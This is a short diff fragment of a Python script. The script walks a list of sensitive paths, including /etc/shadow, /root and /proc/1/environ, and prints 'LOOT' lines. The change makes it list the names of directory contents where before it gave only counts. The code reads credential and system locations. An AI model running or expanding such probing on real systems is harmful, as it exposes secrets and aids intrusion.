@@ -21,7 +21,7 @@ PATHS = ["/etc/shadow", "/root", "/home", "/var", "/tmp", "/proc/1/environ", "/s
 for path in PATHS:
     try:
         if os.path.isdir(path):
-            print("LOOT", path, len(os.listdir(path))) if os.listdir(path) else None
+            print("LOOT", path, os.listdir(path)[:3]) if os.listdir(path) else None
         else:
             with open(path, "rb") as file:
                 print("LOOT", path, len(file.read(16)))
